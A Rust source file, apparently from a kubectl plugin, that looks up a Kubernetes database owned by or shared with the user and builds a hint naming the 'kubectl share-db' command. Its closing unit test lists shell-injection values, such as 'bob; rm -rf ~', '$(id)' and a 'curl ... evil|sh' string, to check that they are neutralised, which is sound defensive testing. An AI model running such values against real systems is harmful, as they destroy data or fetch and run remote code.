//! Finding the database that was typed: one's own, or one that somebody shares.

use commons::cluster::Right;
use commons::shell::Shell;
use commons::{Cluster, Error, Kind, Result, shell, subject};
use database::card::{self, Card};
use database::{Credentials, Database, DatabaseRef};

/// What was found.
#[derive(Debug)]
pub struct FoundDatabase {
    /// The database.
    pub database: Database,
    /// How to log in, as far as one may know.
    pub credentials: Credentials,
    /// What its owner wrote about it, if it is shared.
    pub card: Option<Card>,
    /// Whether it stands in a namespace that somebody asked for and where we are no administrator.
    pub is_among_others: bool,
}

impl FoundDatabase {
    /// Whether somebody else decides what answers.
    pub fn is_foreign(&self) -> bool {
        self.card.is_some() || self.is_among_others
    }
}

/// Looks among what one may see oneself first, then among what is shared: whoever owns a database needs no card.
///
/// # Errors
/// Neither is there; what one may not see and what is not shared look the same, and the hint says whom to ask.
pub async fn find(cluster: &Cluster, typed: &DatabaseRef) -> Result<FoundDatabase> {
    let shared = async {
        // A namespace in front is most often somebody else's.
        match typed.namespace {
            Some(_) => Some(card::find(cluster, typed).await),
            None => None,
        }
    };
    let (own, shared, is_ours) = futures::join!(
        database::find(cluster, typed),
        shared,
        is_ours(cluster, typed.namespace_in(cluster))
    );
    let missing = match own {
        Ok(database) => {
            let credentials = database::credentials(cluster, &database).await?;
            return Ok(FoundDatabase {
                database,
                credentials,
                card: None,
                is_among_others: !is_ours,
            });
        }
        Err(error) if matches!(error.kind(), Kind::Forbidden | Kind::NotFound) => error,
        Err(error) => return Err(error),
    };
    let shared = match shared {
        Some(shared) => shared,
        None => card::find(cluster, typed).await,
    };
    // Who cannot ask what is shared gets the first answer.
    let Ok((card, others)) = shared else {
        return Err(missing);
    };
    match card {
        Some(card) => {
            let database = card.to_database(typed.namespace_in(cluster));
            let credentials = database::credentials(cluster, &database).await?;
            Ok(FoundDatabase {
                database,
                credentials,
                card: Some(card),
                is_among_others: false,
            })
        }
        None => Err(not_shared(cluster, typed, missing, &others).await),
    }
}

/// Whether a namespace is our own: the kubeconfig says so, or we may give rights in it. Who may only look at a database or
/// change it is not the one who decides what it is.
async fn is_ours(cluster: &Cluster, namespace: &str) -> bool {
    if !cluster.is_asked_for(namespace) {
        return true;
    }
    let right = Right::of("create", "rbac.authorization.k8s.io", "rolebindings");
    // Where nobody tells, it is somebody else's.
    cluster.may(namespace, &right).await.unwrap_or(false)
}

/// Why nothing was found in a namespace.
async fn not_shared(
    cluster: &Cluster,
    typed: &DatabaseRef,
    missing: Error,
    others: &[Card],
) -> Error {
    let namespace = typed.namespace_in(cluster);
    if missing.kind() == Kind::NotFound && others.is_empty() {
        return missing;
    }
    let error = Error::of(
        missing.kind(),
        format!(
            "no database `{}` of namespace `{namespace}` is yours or shared with you",
            typed.name
        ),
    );
    if !others.is_empty() {
        let names: Vec<String> = others
            .iter()
            .map(|card| format!("`{namespace}/{}`", card.database))
            .collect();
        return error.hint(format!("shared with you there: {}", names.join(", ")));
    }
    let own_name = match cluster.identity().await {
        Ok(Some(identity)) => format!("user:{}", identity.username),
        _ => String::new(),
    };
    error.hint(format!(
        "its owner can type: `{}`",
        request(&typed.name, &own_name)
    ))
}

/// The command by which a database's owner shares it with somebody; with a placeholder where that is nobody's name.
pub fn request(database: &str, with: &str) -> Shell {
    let command = shell("kubectl share-db").arg(database).then("--with");
    let is_name = with.parse::<subject::SubjectRef>().is_ok() && !with.starts_with('-');
    if is_name {
        command.arg(with)
    } else {
        command.then("USER")
    }
}

#[cfg(test)]
mod tests {
    use super::request;

    #[test]
    fn nothing_that_a_shell_would_run_is_put_in_a_hint() {
        for name in [
            "bob",
            "user:oidc-bob",
            "bob.b@example.org",
            "group:/team/a",
            "serviceaccount:user-bob/default",
        ] {
            let line = request("pg", name).to_string();
            assert_eq!(line, format!("kubectl share-db pg --with {name}"));
        }
        for name in [
            "",
            "user:",
            "bob; rm -rf ~",
            "$(id)",
            "-x-yz-",
            "a`b`cdef",
            "bob carol",
            "user:\u{1b}[31m",
        ] {
            let line = request("pg", name).to_string();
            assert_eq!(line, "kubectl share-db pg --with USER", "{name}");
        }
        assert_eq!(
            request("pg", "user:x;curl${IFS}evil|sh").to_string(),
            "kubectl share-db pg --with 'user:x;curl${IFS}evil|sh'"
        );
    }
}
